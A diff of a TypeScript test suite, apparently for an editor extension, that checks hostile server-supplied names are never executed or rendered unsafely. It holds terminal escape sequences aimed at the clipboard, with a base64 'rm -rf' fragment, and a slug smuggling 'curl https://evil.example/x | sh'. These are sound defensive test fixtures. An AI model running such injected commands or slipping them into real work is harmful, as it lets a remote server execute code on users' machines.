@@ -106,7 +106,11 @@ describe("names a hostile server sends", () => {
     expect(item?.text).toBe("$(account) ]0;pwned]52;c;cm0gLXJmAda Lovelace31m");
     expect(unsafe(item?.tooltip)).toBe(false);
 
-    const provider = new ClaudemeshAuthenticationProvider({ identity, api: async () => ApiClient.create() });
+    const provider = new ClaudemeshAuthenticationProvider({
+      identity,
+      signIn: async () => {},
+      signOut: async () => {},
+    });
     disposables.push(provider);
     const [session] = await provider.getSessions();
     expect(session?.account.label).toBe("]0;pwned]52;c;cm0gLXJmAda Lovelace31m");
@@ -150,7 +154,15 @@ describe("names a hostile server sends", () => {
   it("a mesh slug that is not one is never typed into a terminal", async () => {
     const identity = identityWith(hostileServer, mintToken("pat"));
     const api = (token?: string) => ApiClient.create({ baseUrl: API_URL, token, fetch: hostileServer });
-    disposables.push(...registerCommands({ identity, api, apiUrl: () => API_URL, refreshTrees: () => {} }));
+    disposables.push(
+      ...registerCommands({
+        identity,
+        api,
+        apiUrl: () => API_URL,
+        refreshTrees: () => {},
+        signIn: () => Promise.reject(new Error("not here")),
+      }),
+    );
     const planted = new InfoNode("platform-team", { resource: "platform-team; curl https://evil.example/x | sh" });
     await commands.executeCommand("claudemesh.meshes.launch", planted);
     expect(terminals).toEqual([]);
